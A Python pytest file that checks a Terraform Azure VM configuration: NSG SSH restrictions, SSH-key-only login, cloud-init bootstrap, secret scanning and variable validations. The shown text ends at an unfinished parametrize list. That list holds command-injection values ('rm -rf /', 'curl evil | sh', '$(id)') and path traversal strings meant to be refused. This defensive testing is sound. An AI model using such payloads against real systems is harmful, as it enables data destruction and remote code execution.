"""The Azure host in terraform/: structure, security properties, cloud-init, validations, checkov.

No terraform binary exists on these machines, so:
- the HCL is parsed with python-hcl2 and the properties the deployment depends on are asserted on it;
- the variables' `validation` conditions are evaluated by a small evaluator below that models exactly
  the HCL operators and functions those conditions use (anything else raises `Unmodelled`, so a new
  construct fails loudly instead of passing untested);
- checkov (its own venv, .venv-checkov, created by `./install.sh --dev`) must report 0 failed checks,
  and every skip must carry a reason.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import operator
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import hcl2
import pytest
from hcl2 import SerializationOptions

REPO = Path(__file__).resolve().parents[2]
TF = REPO / "terraform"
CHECKOV = REPO / ".venv-checkov" / "bin" / "checkov"
TF_FILES = ("versions.tf", "variables.tf", "main.tf", "outputs.tf")

# ---------------------------------------------------------------------------------------------
# Loading the configuration
# ---------------------------------------------------------------------------------------------

_OPTS = SerializationOptions(strip_string_quotes=True, with_comments=False)


def _clean(node: Any) -> Any:
    if isinstance(node, dict):
        return {k: _clean(v) for k, v in node.items() if k not in ("__is_block__", "__comments__")}
    if isinstance(node, list):
        return [_clean(v) for v in node]
    return node


def _load(path: Path) -> dict:
    with path.open(encoding="utf-8") as fh:
        return _clean(hcl2.load(fh, serialization_options=_OPTS))


class Config:
    """The merged top-level blocks of all .tf files in terraform/."""

    def __init__(self) -> None:
        self.variables: dict[str, dict] = {}
        self.resources: dict[tuple[str, str], dict] = {}
        self.outputs: dict[str, dict] = {}
        self.locals: dict[str, Any] = {}
        self.terraform: list[dict] = []
        self.providers: dict[str, dict] = {}
        for path in sorted(TF.glob("*.tf")):
            doc = _load(path)
            for block in doc.get("variable", []):
                self.variables.update(block)
            for block in doc.get("resource", []):
                for rtype, named in block.items():
                    for rname, body in named.items():
                        assert (rtype, rname) not in self.resources, f"duplicate {rtype}.{rname}"
                        self.resources[(rtype, rname)] = body
            for block in doc.get("output", []):
                self.outputs.update(block)
            for block in doc.get("locals", []):
                self.locals.update(block)
            self.terraform.extend(doc.get("terraform", []))
            for block in doc.get("provider", []):
                self.providers.update(block)

    def of_type(self, rtype: str) -> dict[str, dict]:
        return {name: body for (t, name), body in self.resources.items() if t == rtype}

    def one(self, rtype: str) -> tuple[str, dict]:
        found = self.of_type(rtype)
        assert len(found) == 1, f"expected exactly one {rtype}, found {sorted(found)}"
        return next(iter(found.items()))


@pytest.fixture(scope="module")
def cfg() -> Config:
    return Config()


def ref(text: Any) -> str | None:
    """The expression inside a pure "${...}" value, else None (a literal or a template string)."""
    if not (isinstance(text, str) and text.startswith("${") and text.endswith("}")):
        return None
    depth = 0
    for i, c in enumerate(text[1:], start=1):
        depth += {"{": 1, "}": -1}.get(c, 0)
        if depth == 0 and i != len(text) - 1:
            return None  # "${a}-${b}": a template string, not one expression
    return text[2:-1].strip()


def block(body: dict, name: str) -> dict:
    blocks = body.get(name)
    assert isinstance(blocks, list) and len(blocks) == 1, f"expected one `{name}` block, got {blocks!r}"
    return blocks[0]


# ---------------------------------------------------------------------------------------------
# A tiny evaluator for the HCL expressions used in `validation` conditions
# ---------------------------------------------------------------------------------------------


class TfError(Exception):
    """Terraform would report an error here (can() and try() catch it)."""


class Unmodelled(Exception):
    """The expression uses syntax or a function this evaluator does not model."""


_TOKEN = re.compile(
    r"""(?P<ws>\s+)
      |(?P<num>\d+(?:\.\d+)?)
      |(?P<str>"(?:[^"\\]|\\.)*")
      |(?P<ident>[A-Za-z_][A-Za-z0-9_-]*)
      |(?P<op>&&|\|\||==|!=|<=|>=|[<>!+\-*/%?:()\[\],.])""",
    re.X,
)
_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", '"': '"', "\\": "\\"}


def _unquote(raw: str) -> str:
    body = raw[1:-1]
    if "${" in body or "%{" in body:
        raise Unmodelled(f"template interpolation in string literal {raw}")
    out, i = [], 0
    while i < len(body):
        c = body[i]
        if c == "\\":
            nxt = body[i + 1]
            if nxt not in _ESCAPES:
                raise Unmodelled(f"escape \\{nxt} in {raw}")
            out.append(_ESCAPES[nxt])
            i += 2
        else:
            out.append(c)
            i += 1
    return "".join(out)


def _tokenize(src: str) -> list[tuple[str, Any]]:
    tokens, pos = [], 0
    while pos < len(src):
        m = _TOKEN.match(src, pos)
        if not m:
            raise Unmodelled(f"cannot tokenize {src[pos : pos + 20]!r} in {src!r}")
        pos = m.end()
        kind = m.lastgroup
        if kind == "ws":
            continue
        text = m.group()
        if kind == "num":
            tokens.append(("lit", float(text) if "." in text else int(text)))
        elif kind == "str":
            tokens.append(("lit", _unquote(text)))
        elif kind == "ident" and text in ("true", "false", "null"):
            tokens.append(("lit", {"true": True, "false": False, "null": None}[text]))
        else:
            tokens.append((kind, text))
    tokens.append(("end", None))
    return tokens


class _Parser:
    # HCL operator precedence, lowest first (the conditional ?: is below all of them).
    LEVELS = (("||",), ("&&",), ("==", "!="), ("<", ">", "<=", ">="), ("+", "-"), ("*", "/", "%"))

    def __init__(self, src: str) -> None:
        self.src = src
        self.toks = _tokenize(src)
        self.i = 0

    def peek(self) -> tuple[str, Any]:
        return self.toks[self.i]

    def take(self, value: str | None = None) -> tuple[str, Any]:
        tok = self.toks[self.i]
        if value is not None and tok[1] != value:
            raise Unmodelled(f"expected {value!r}, got {tok[1]!r} in {self.src!r}")
        self.i += 1
        return tok

    def parse(self) -> tuple:
        node = self.expr()
        if self.peek()[0] != "end":
            raise Unmodelled(f"trailing {self.peek()[1]!r} in {self.src!r}")
        return node

    def expr(self) -> tuple:
        cond = self.binary(0)
        if self.peek() == ("op", "?"):
            self.take()
            a = self.expr()
            self.take(":")
            b = self.expr()
            return ("cond", cond, a, b)
        return cond

    def binary(self, level: int) -> tuple:
        if level == len(self.LEVELS):
            return self.unary()
        node = self.binary(level + 1)
        while self.peek()[0] == "op" and self.peek()[1] in self.LEVELS[level]:
            op = self.take()[1]
            node = ("bin", op, node, self.binary(level + 1))
        return node

    def unary(self) -> tuple:
        if self.peek() in (("op", "!"), ("op", "-")):
            op = self.take()[1]
            return ("not" if op == "!" else "neg", self.unary())
        return self.postfix()

    def postfix(self) -> tuple:
        node = self.primary()
        while True:
            if self.peek() == ("op", "["):
                self.take()
                node = ("index", node, self.expr())
                self.take("]")
            elif self.peek() == ("op", "."):
                self.take()
                kind, name = self.take()
                if kind != "ident":
                    raise Unmodelled(f"attribute access .{name} in {self.src!r}")
                node = ("attr", node, name)
            else:
                return node

    def primary(self) -> tuple:
        kind, val = self.take()
        if kind == "lit":
            return ("lit", val)
        if kind == "ident":
            if self.peek() == ("op", "("):
                self.take()
                args = self.items(")")
                return ("call", val, args)
            if val == "var":
                return ("var",)
            raise Unmodelled(f"reference {val!r} in {self.src!r}")
        if (kind, val) == ("op", "("):
            node = self.expr()
            self.take(")")
            return node
        if (kind, val) == ("op", "["):
            return ("list", self.items("]"))
        raise Unmodelled(f"unexpected {val!r} in {self.src!r}")

    def items(self, close: str) -> list[tuple]:
        out: list[tuple] = []
        if self.peek() == ("op", close):
            self.take()
            return out
        while True:
            out.append(self.expr())
            if self.peek() == ("op", ","):
                self.take()
                if self.peek() == ("op", close):  # trailing comma
                    self.take()
                    return out
                continue
            self.take(close)
            return out


def _is_num(v: Any) -> bool:
    return isinstance(v, int | float) and not isinstance(v, bool)


def _num(v: Any) -> int | float:
    if _is_num(v):
        return v
    if isinstance(v, str) and re.fullmatch(r"-?\d+(\.\d+)?", v):
        return float(v) if "." in v else int(v)
    raise TfError(f"not a number: {v!r}")


def _bool(v: Any) -> bool:
    if isinstance(v, bool):
        return v
    raise TfError(f"not a bool: {v!r}")


def _str(v: Any) -> str:
    if isinstance(v, str):
        return v
    if _is_num(v) or isinstance(v, bool):
        return json.dumps(v)
    raise TfError(f"not a string: {v!r}")


def _network(prefix: Any) -> ipaddress.IPv4Network | ipaddress.IPv6Network:
    """Go's net.ParseCIDR, which Terraform's cidr* functions use: ADDRESS/BITS, host bits allowed."""
    text = _str(prefix)
    if not re.fullmatch(r"[0-9A-Fa-f:.]+/\d{1,3}", text):
        raise TfError(f"invalid CIDR address: {text!r}")
    try:
        return ipaddress.ip_network(text, strict=False)
    except ValueError as exc:
        raise TfError(str(exc)) from exc


def _cidrhost(prefix: Any, hostnum: Any) -> str:
    net = _network(prefix)
    n = int(_num(hostnum))
    if not 0 <= n < net.num_addresses:
        raise TfError(f"host number {n} outside {net}")
    return str(net.network_address + n)


def _cidrsubnet(prefix: Any, newbits: Any, netnum: Any) -> str:
    net = _network(prefix)
    bits, num = int(_num(newbits)), int(_num(netnum))
    if bits < 0 or net.prefixlen + bits > net.max_prefixlen or not 0 <= num < 2**bits:
        raise TfError(f"cidrsubnet({net}, {bits}, {num}) out of range")
    size = 2 ** (net.max_prefixlen - net.prefixlen - bits)
    return str(ipaddress.ip_network((int(net.network_address) + num * size, net.prefixlen + bits)))


def _regex(pattern: Any, text: Any) -> Any:
    pat = _str(pattern)
    if re.search(r"\\[pPQEC]|\(\?P?<|\[\[:", pat):  # RE2-only or differing syntax
        raise Unmodelled(f"regex syntax not modelled: {pat!r}")
    m = re.search(pat, _str(text))
    if m is None:
        raise TfError(f"pattern {pat!r} did not match {text!r}")
    return list(m.groups()) if m.groups() else m.group()


def _tonumber(v: Any) -> Any:
    return None if v is None else _num(v)


def _index(coll: Any, key: Any) -> Any:
    if isinstance(coll, list):
        n = int(_num(key))
        if not 0 <= n < len(coll):
            raise TfError(f"index {n} out of range for {coll!r}")
        return coll[n]
    if isinstance(coll, dict):
        if _str(key) not in coll:
            raise TfError(f"no key {key!r}")
        return coll[_str(key)]
    raise TfError(f"cannot index {coll!r}")


_ARITH = {
    "<": operator.lt,
    ">": operator.gt,
    "<=": operator.le,
    ">=": operator.ge,
    "+": operator.add,
    "-": operator.sub,
    "*": operator.mul,
    "/": operator.truediv,
    "%": operator.mod,
}


def _contains(coll: Any, value: Any) -> bool:
    if not isinstance(coll, list):
        raise TfError(f"contains() needs a list, got {coll!r}")
    return value in coll


def _length(value: Any) -> int:
    if not isinstance(value, str | list | dict):
        raise TfError(f"length() of {value!r}")
    return len(value)


_FUNCS = {
    "cidrhost": _cidrhost,
    "cidrsubnet": _cidrsubnet,
    "split": lambda sep, s: _str(s).split(_str(sep)),
    "tonumber": _tonumber,
    "strcontains": lambda s, sub: _str(sub) in _str(s),
    "regex": _regex,
    "contains": _contains,
    "trimspace": lambda s: _str(s).strip(),
    "length": _length,
}


def _eval(node: tuple, env: dict[str, Any]) -> Any:
    kind = node[0]
    if kind == "lit":
        return node[1]
    if kind == "var":
        return ("var-namespace",)
    if kind == "attr":
        if node[1] != ("var",):
            raise Unmodelled(f"attribute {node[2]} of a non-variable")
        if node[2] not in env:
            raise Unmodelled(f"var.{node[2]} has no value in this evaluation")
        return env[node[2]]
    if kind == "index":
        return _index(_eval(node[1], env), _eval(node[2], env))
    if kind == "list":
        return [_eval(n, env) for n in node[1]]
    if kind == "not":
        return not _bool(_eval(node[1], env))
    if kind == "neg":
        return -_num(_eval(node[1], env))
    if kind == "cond":
        # HCL reports only the chosen branch's errors
        return _eval(node[2] if _bool(_eval(node[1], env)) else node[3], env)
    if kind == "bin":
        op = node[1]
        # HCL's logical operators do not short-circuit: both sides are evaluated (and may error).
        left, right = _eval(node[2], env), _eval(node[3], env)
        if op == "&&":
            return _bool(left) & _bool(right)
        if op == "||":
            return _bool(left) | _bool(right)
        if op in ("==", "!="):
            same = type(left) is type(right) or (_is_num(left) and _is_num(right))
            equal = same and left == right
            return equal if op == "==" else not equal
        a, b = _num(left), _num(right)
        if op in ("/", "%") and b == 0:
            raise TfError("division by zero")
        return _ARITH[op](a, b)
    if kind == "call":
        name, args = node[1], node[2]
        if name == "can":
            if len(args) != 1:
                raise Unmodelled("can() takes one argument")
            try:
                _eval(args[0], env)
                return True
            except TfError:
                return False
        if name == "try":
            for arg in args:
                try:
                    return _eval(arg, env)
                except TfError:
                    continue
            raise TfError("no try() argument succeeded")
        if name not in _FUNCS:
            raise Unmodelled(f"function {name}() is not modelled")
        return _FUNCS[name](*[_eval(a, env) for a in args])
    raise Unmodelled(f"node {kind}")


def evaluate(expr: str, env: dict[str, Any]) -> Any:
    return _eval(_Parser(expr).parse(), env)


def refusals(cfg: Config, name: str, value: Any) -> list[str]:
    """Error messages of the validation blocks of variable `name` that refuse `value` ([] = accepted)."""
    failed = []
    for v in cfg.variables[name].get("validation", []):
        cond = ref(v["condition"])
        assert cond is not None, f"condition of {name} is not an expression: {v['condition']!r}"
        try:
            ok = evaluate(cond, {name: value})
        except TfError:
            ok = False  # an erroring condition blocks the plan as well
        if ok is not True:
            assert ok is False, f"condition of {name} returned non-bool {ok!r}"
            failed.append(v["error_message"])
    return failed


# ---------------------------------------------------------------------------------------------
# The evaluator itself (so a broken evaluator cannot make the validation tests pass vacuously)
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("expr", "expected"),
    [
        ("1 + 2 * 3 == 7", True),
        ("!true || false", False),
        ("true || false && false", True),
        ("(true || false) && false", False),
        ('3 >= 2 ? "a" : "b"', "a"),
        ('split("/", "10.0.0.0/8")[1]', "8"),
        ('tonumber(split("/", "10.0.0.0/8")[1]) >= 16', False),
        ('can(cidrhost("10.0.0.0/8", 0))', True),
        ('can(cidrhost("10.0.0.0", 0))', False),
        ('can(cidrhost("Internet", 0))', False),
        ('cidrsubnet("10.1.2.3/16", 0, 0)', "10.1.0.0/16"),
        ('cidrsubnet("2001:DB8:0:0::1/48", 0, 0)', "2001:db8::/48"),
        ('try(split("/", "x")[1], "none")', "none"),
        ('contains(["a", "b",], "b")', True),
        ('can(regex("^a+$", "aaa")) && !can(regex("^a+$", "aab"))', True),
        ('strcontains("::/0", ":")', True),
        ('var.x == "" || var.x == "y"', True),
    ],
)
def test_evaluator_semantics(expr: str, expected: Any) -> None:
    assert evaluate(expr, {"x": "y"}) == expected


@pytest.mark.parametrize(
    "expr",
    [
        "lower(var.x)",
        "local.foo",
        '"${var.x}"',
        "{ a = 1 }",
        "var.x[*]",
        "var.missing",
        'regex("(?P<n>a)", "a")',
    ],
)
def test_evaluator_refuses_what_it_does_not_model(expr: str) -> None:
    with pytest.raises(Unmodelled):
        evaluate(expr, {"x": "y"})


def test_evaluator_errors_propagate_without_can() -> None:
    with pytest.raises(TfError):
        evaluate('cidrhost("0.0.0.0", 0)', {})
    # no short-circuit in HCL: an error on the right of a false && still errors
    with pytest.raises(TfError):
        evaluate('false && tonumber("x") > 1', {})


# ---------------------------------------------------------------------------------------------
# Files and provider
# ---------------------------------------------------------------------------------------------


def test_all_files_present_and_parse() -> None:
    for name in (*TF_FILES, "terraform.tfvars.example", "cloud-init.yaml"):
        assert (TF / name).is_file(), f"terraform/{name} missing"
    for name in (*TF_FILES, "terraform.tfvars.example"):
        _load(TF / name)  # raises on a syntax error


def test_azurerm_provider_is_pinned(cfg: Config) -> None:
    assert len(cfg.terraform) == 1
    tf = cfg.terraform[0]
    assert re.fullmatch(r">= ?1\.\d+\.\d+.*", tf["required_version"]), tf["required_version"]
    providers = block(tf, "required_providers")
    azurerm = providers["azurerm"]
    assert azurerm["source"] == "hashicorp/azurerm"
    assert re.fullmatch(r"=? ?\d+\.\d+\.\d+", azurerm["version"]), f"not an exact pin: {azurerm['version']}"
    assert "azurerm" in cfg.providers and "features" in cfg.providers["azurerm"]


# ---------------------------------------------------------------------------------------------
# Network
# ---------------------------------------------------------------------------------------------


def test_resource_group_vnet_subnet(cfg: Config) -> None:
    rg_name, rg = cfg.one("azurerm_resource_group")
    assert ref(rg["name"]) == "var.resource_group_name"
    assert ref(rg["location"]) == "var.location"
    vnet_name, vnet = cfg.one("azurerm_virtual_network")
    assert ref(vnet["resource_group_name"]) == f"azurerm_resource_group.{rg_name}.name"
    assert [ref(x) for x in vnet["address_space"]] == ["var.vnet_address_space"]
    _, subnet = cfg.one("azurerm_subnet")
    assert ref(subnet["virtual_network_name"]) == f"azurerm_virtual_network.{vnet_name}.name"
    assert [ref(x) for x in subnet["address_prefixes"]] == ["var.subnet_prefix"]
    # the defaults are consistent: the subnet lies inside the address space
    space = ipaddress.ip_network(cfg.variables["vnet_address_space"]["default"])
    sub = ipaddress.ip_network(cfg.variables["subnet_prefix"]["default"])
    assert sub.subnet_of(space)


def _inbound_rules(cfg: Config) -> list[dict]:
    rules = []
    for body in cfg.of_type("azurerm_network_security_group").values():
        rules += body.get("security_rule", [])
    rules += list(cfg.of_type("azurerm_network_security_rule").values())
    return [r for r in rules if r["direction"] == "Inbound"]


def test_nsg_allows_inbound_ssh_only_from_admin_cidr(cfg: Config) -> None:
    inbound = _inbound_rules(cfg)
    allows = [r for r in inbound if r["access"] == "Allow"]
    assert len(allows) == 1, f"exactly one inbound allow rule expected, got {[r['name'] for r in allows]}"
    ssh = allows[0]
    assert ssh["protocol"] == "Tcp"
    assert ssh["destination_port_range"] == "22" and "destination_port_ranges" not in ssh
    assert ref(ssh["source_address_prefix"]) == "var.admin_cidr", "SSH source must be the admin_cidr variable"
    assert "source_address_prefixes" not in ssh
    # everything else inbound is an explicit deny with a lower priority (higher number) than the allow
    denies = [r for r in inbound if r is not ssh]
    assert denies and all(r["access"] == "Deny" for r in denies)
    deny_all = [
        r
        for r in denies
        if r["source_address_prefix"] == "*" and r["destination_port_range"] == "*" and r["protocol"] == "*"
    ]
    assert deny_all and all(d["priority"] > ssh["priority"] for d in deny_all)


def test_nsg_guards_the_vm_subnet_and_nic_wiring(cfg: Config) -> None:
    nsg_name, _ = cfg.one("azurerm_network_security_group")
    subnet_name, _ = cfg.one("azurerm_subnet")
    _, assoc = cfg.one("azurerm_subnet_network_security_group_association")
    assert ref(assoc["subnet_id"]) == f"azurerm_subnet.{subnet_name}.id"
    assert ref(assoc["network_security_group_id"]) == f"azurerm_network_security_group.{nsg_name}.id"
    pip_name, pip = cfg.one("azurerm_public_ip")
    assert pip["sku"] == "Standard" and pip["allocation_method"] == "Static"
    nic_name, nic = cfg.one("azurerm_network_interface")
    ipc = block(nic, "ip_configuration")
    assert ref(ipc["subnet_id"]) == f"azurerm_subnet.{subnet_name}.id"
    assert ref(ipc["public_ip_address_id"]) == f"azurerm_public_ip.{pip_name}.id"
    _, vm = cfg.one("azurerm_linux_virtual_machine")
    assert [ref(x) for x in vm["network_interface_ids"]] == [f"azurerm_network_interface.{nic_name}.id"]


# ---------------------------------------------------------------------------------------------
# The VM
# ---------------------------------------------------------------------------------------------


def test_vm_size_image_disk(cfg: Config) -> None:
    _, vm = cfg.one("azurerm_linux_virtual_machine")
    assert vm["size"] == "Standard_B2s"
    img = block(vm, "source_image_reference")
    assert img["publisher"] == "Canonical"
    assert img["offer"] == "0001-com-ubuntu-server-jammy"
    assert re.fullmatch(r"22_04-lts(-gen2)?", img["sku"]), img["sku"]
    disk = block(vm, "os_disk")
    assert disk["storage_account_type"] == "Premium_LRS"
    assert ref(disk["disk_size_gb"]) == "var.os_disk_size_gb"
    assert cfg.variables["os_disk_size_gb"]["default"] == 128


def test_vm_ssh_key_only(cfg: Config) -> None:
    _, vm = cfg.one("azurerm_linux_virtual_machine")
    assert vm["disable_password_authentication"] is True
    assert "admin_password" not in vm
    key = block(vm, "admin_ssh_key")
    assert ref(key["username"]) == "var.admin_username" == ref(vm["admin_username"])
    assert "var.admin_ssh_public_key" in (ref(key["public_key"]) or "")
    assert "default" not in cfg.variables["admin_ssh_public_key"]


def test_vm_boot_diagnostics_and_hardening(cfg: Config) -> None:
    _, vm = cfg.one("azurerm_linux_virtual_machine")
    diag = block(vm, "boot_diagnostics")
    # empty block = Azure-managed storage account (nothing of ours to secure)
    assert diag.get("storage_account_uri") in (None, "")
    assert vm["allow_extension_operations"] is False
    assert vm["secure_boot_enabled"] is True and vm["vtpm_enabled"] is True


def test_vm_custom_data_is_the_cloud_init_template(cfg: Config) -> None:
    _, vm = cfg.one("azurerm_linux_virtual_machine")
    expr = ref(vm["custom_data"])
    assert expr is not None
    m = re.fullmatch(
        r'base64encode\(templatefile\("\$\{path\.module\}/cloud-init\.yaml", (local\.\w+)\)\)', expr
    )
    assert m, f"custom_data must be base64encode(templatefile(cloud-init.yaml, local.X)): {expr}"
    assert m.group(1) == "local.cloud_init_vars"


def test_every_taggable_resource_is_tagged(cfg: Config) -> None:
    untaggable = {
        "azurerm_subnet",
        "azurerm_subnet_network_security_group_association",
        "azurerm_network_interface_security_group_association",
    }
    for (rtype, name), body in cfg.resources.items():
        if rtype in untaggable:
            continue
        assert ref(body.get("tags")) == "local.tags", f"{rtype}.{name} is not tagged with local.tags"
    tags = ref(cfg.locals["tags"]) or ""
    assert tags.startswith("merge(") and "var.tags" in tags and "project" in tags


def test_outputs(cfg: Config) -> None:
    pip_name, _ = cfg.one("azurerm_public_ip")
    vm_name, _ = cfg.one("azurerm_linux_virtual_machine")
    assert ref(cfg.outputs["public_ip_address"]["value"]) == f"azurerm_public_ip.{pip_name}.ip_address"
    assert ref(cfg.outputs["vm_id"]["value"]) == f"azurerm_linux_virtual_machine.{vm_name}.id"
    ssh = cfg.outputs["ssh_command"]["value"]
    assert ssh == f"ssh ${{var.admin_username}}@${{azurerm_public_ip.{pip_name}.ip_address}}"


# ---------------------------------------------------------------------------------------------
# cloud-init
# ---------------------------------------------------------------------------------------------

SAMPLE_TEMPLATE_VARS = {
    "release_repo_url": "https://github.com/OWNER/stock-trading-observer.git",
    "release_ref": "v0.1.0",
}


def render_template(text: str, values: dict[str, str]) -> str:
    """Terraform's templatefile() for plain ${name} references (anything fancier is refused)."""
    out, i = [], 0
    while i < len(text):
        if text.startswith("$${", i) or text.startswith("%%{", i):
            out.append(text[i + 1 : i + 3])
            i += 3
        elif text.startswith("${", i):
            end = text.index("}", i)
            name = text[i + 2 : end].strip()
            if name not in values:
                raise AssertionError(f"template reference ${{{name}}} is not a passed variable")
            out.append(values[name])
            i = end + 1
        elif text.startswith("%{", i):
            raise AssertionError("template directives %{...} are not expected in cloud-init.yaml")
        else:
            out.append(text[i])
            i += 1
    return "".join(out)


def _yaml_load(text: str) -> Any:
    """YAML isn't a dependency of the project venv; checkov's throwaway venv has PyYAML."""
    try:
        import yaml  # type: ignore[import-untyped]

        return yaml.safe_load(text)
    except ImportError:
        pass
    py = CHECKOV.parent / "python"
    if not py.exists():
        pytest.fail(f"no PyYAML: neither in {sys.executable} nor {py} (run ./install.sh --dev)")
    res = subprocess.run(
        [str(py), "-c", "import json, sys, yaml; json.dump(yaml.safe_load(sys.stdin), sys.stdout)"],
        input=text,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert res.returncode == 0, res.stderr
    return json.loads(res.stdout)


@pytest.fixture(scope="module")
def cloud_init() -> tuple[str, dict]:
    rendered = render_template((TF / "cloud-init.yaml").read_text(encoding="utf-8"), SAMPLE_TEMPLATE_VARS)
    return rendered, _yaml_load(rendered)


def _bootstrap_script(doc: dict) -> str:
    files = {f["path"]: f for f in doc.get("write_files", [])}
    script = files["/usr/local/sbin/observer-bootstrap"]
    assert script.get("permissions") == "0755"
    return script["content"]


def test_cloud_init_template_vars_are_exactly_the_passed_non_secret_ones(cfg: Config) -> None:
    text = (TF / "cloud-init.yaml").read_text(encoding="utf-8")
    used = set(re.findall(r"(?<!\$)\$\{\s*([^}]*?)\s*\}", text))
    passed = cfg.locals["cloud_init_vars"]
    assert used == set(passed) == set(SAMPLE_TEMPLATE_VARS), (used, set(passed))
    for key, value in passed.items():
        assert ref(value) == f"var.{key}"
        assert not cfg.variables[key].get("sensitive"), f"sensitive var.{key} must not reach custom_data"


def test_cloud_init_time_zone_and_ntp(cloud_init: tuple[str, dict]) -> None:
    rendered, doc = cloud_init
    assert rendered.startswith("#cloud-config\n")
    assert doc["timezone"] == "Asia/Seoul"
    assert "chrony" in doc["packages"]
    script = _bootstrap_script(doc)
    assert "systemctl enable chrony" in script
    assert "refclock PHC" in script


def test_cloud_init_bootstraps_release_and_runs_install(cloud_init: tuple[str, dict]) -> None:
    _, doc = cloud_init
    assert doc["package_update"] is True
    for pkg in ("git", "python3-venv", "python3.11", "python3.11-venv"):
        assert pkg in doc["packages"], pkg
    assert doc["runcmd"] == [["/usr/local/sbin/observer-bootstrap"]]
    script = _bootstrap_script(doc)
    assert f"RELEASE_REPO_URL='{SAMPLE_TEMPLATE_VARS['release_repo_url']}'" in script
    assert f"RELEASE_REF='{SAMPLE_TEMPLATE_VARS['release_ref']}'" in script
    fetch = re.search(r'git -C "\$dir" fetch .*origin "\$RELEASE_REF"', script)
    checkout = re.search(r'git -C "\$dir" checkout .*FETCH_HEAD', script)
    install = re.search(r'^\s*cd "\$dir"\n\s*\./install\.sh\s*$', script, re.M)
    assert fetch and checkout and install
    assert fetch.start() < checkout.start() < install.start()


def test_cloud_init_bootstrap_script_is_valid_bash(cloud_init: tuple[str, dict]) -> None:
    bash = shutil.which("bash")
    assert bash, "bash is needed"
    script = _bootstrap_script(cloud_init[1])
    assert script.startswith("#!/bin/bash\n") and "set -euo pipefail" in script
    res = subprocess.run([bash, "-n"], input=script, capture_output=True, text=True, timeout=30, check=False)
    assert res.returncode == 0, res.stderr


def test_cloud_init_fits_custom_data(cloud_init: tuple[str, dict]) -> None:
    # Azure's limit for custom_data is 64 KiB (base64-encoded)
    assert len(base64.b64encode(cloud_init[0].encode())) < 64 * 1024


# ---------------------------------------------------------------------------------------------
# No secrets
# ---------------------------------------------------------------------------------------------

_SECRET_WORDS = re.compile(
    r"passw|secret|token|private|apikey|api_key|appkey|credential|BEGIN [A-Z ]*KEY", re.I
)


def _strings(node: Any) -> list[str]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in (_strings(k) + _strings(v))]
    if isinstance(node, list):
        return [s for v in node for s in _strings(v)]
    return [node] if isinstance(node, str) else []


def test_no_secrets_in_variable_defaults(cfg: Config) -> None:
    for name, var in cfg.variables.items():
        if _SECRET_WORDS.search(name):
            assert var.get("default") is None, f"var.{name} looks secret and must have no default"
        for s in _strings(var.get("default")):
            assert not _SECRET_WORDS.search(s), f"var.{name} default looks secret: {s!r}"
            assert "@" not in s, f"var.{name} default contains a credentials-like '@': {s!r}"


def test_no_secrets_in_cloud_init(cloud_init: tuple[str, dict]) -> None:
    rendered, doc = cloud_init
    for key in ("password", "passwd", "chpasswd", "users", "ssh_keys", "ca_certs", "ssh_authorized_keys"):
        assert key not in doc, f"cloud-init must not carry {key}"
    assert doc.get("ssh_pwauth") is False
    for f in doc.get("write_files", []):
        assert not f["path"].startswith("/etc/observer"), (
            "config and secrets are install.sh's / the operator's"
        )
    code = "\n".join(line for line in rendered.splitlines() if not line.lstrip().startswith("#"))
    assert not _SECRET_WORDS.search(code), _SECRET_WORDS.search(code)


def test_tfvars_example_has_no_secret_values() -> None:
    example = _load(TF / "terraform.tfvars.example")
    for s in _strings(example):
        assert not _SECRET_WORDS.search(s), s


# ---------------------------------------------------------------------------------------------
# Validations
# ---------------------------------------------------------------------------------------------


def test_validations_only_reference_their_own_variable(cfg: Config) -> None:
    # Terraform < 1.9 allows nothing else, and the evaluator models nothing else
    for name, var in cfg.variables.items():
        for v in var.get("validation", []):
            refs = set(re.findall(r"\bvar\.([A-Za-z_][A-Za-z0-9_-]*)", v["condition"]))
            assert refs == {name}, (name, refs)


def test_admin_cidr_has_validation_and_no_default(cfg: Config) -> None:
    var = cfg.variables["admin_cidr"]
    assert "default" not in var, "admin_cidr must be chosen by the operator"
    assert var.get("validation"), "admin_cidr needs validation blocks"


@pytest.mark.parametrize(
    "value",
    [
        "0.0.0.0/0",
        "::/0",
        "0.0.0.0/1",
        "128.0.0.0/1",
        "10.0.0.0/8",
        "100.64.0.0/10",
        "172.16.0.0/12",
        "203.0.0.0/15",
        "2001:db8::/32",
        "2000::/3",
        "::/1",
        "*",
        "Internet",
        "Any",
        "",
        "203.0.113.7",
        "203.0.113.0/24,0.0.0.0/0",
        " 203.0.113.7/32",
        "203.0.113.7/24",
        "300.1.1.1/32",
        "203.0.113.0/33",
        "2001:db8::/129",
        "203.0.113.7/255.255.255.255",
    ],
)
def test_admin_cidr_refuses_open_or_bad_ranges(cfg: Config, value: str) -> None:
    assert refusals(cfg, "admin_cidr", value), f"admin_cidr accepted {value!r}"


def test_admin_cidr_open_ranges_are_refused_for_width(cfg: Config) -> None:
    # the width rule itself, not merely the syntax rule, refuses the Internet
    for value in ("0.0.0.0/0", "::/0", "10.0.0.0/8"):
        assert any("too wide" in msg for msg in refusals(cfg, "admin_cidr", value)), value


@pytest.mark.parametrize(
    "value",
    ["203.0.113.7/32", "198.51.100.0/24", "10.20.0.0/16", "2001:db8:1234::/48", "2001:db8::1/128"],
)
def test_admin_cidr_accepts_narrow_ranges(cfg: Config, value: str) -> None:
    assert refusals(cfg, "admin_cidr", value) == []


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("release_repo_url", "https://user:ghp_token@github.com/o/r.git"),
        ("release_repo_url", "https://github.com/o/r.git?access_token=x"),
        ("release_repo_url", "http://github.com/o/r.git"),
        ("release_repo_url", "git@github.com:o/r.git"),
        ("release_repo_url", "https://github.com/o/r.git'; rm -rf / #"),
        ("release_ref", "main'; curl evil | sh; '"),
        ("release_ref", "$(id)"),
        ("release_ref", "../../etc"),
        ("release_ref", "-u"),
        ("admin_ssh_public_key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=\n"),
        ("admin_ssh_public_key", "ssh-dss AAAAB3NzaC1kc3MAAACBAP you@host"),
        ("admin_ssh_public_key", "ssh-ed25519 AAAA\nssh-rsa AAAA"),
        ("admin_username", "root"),
        ("admin_username", "observer"),
        ("admin_username", "Bad User"),
        ("vm_name", "-observer"),
        ("os_disk_size_gb", 32),
    ],
)
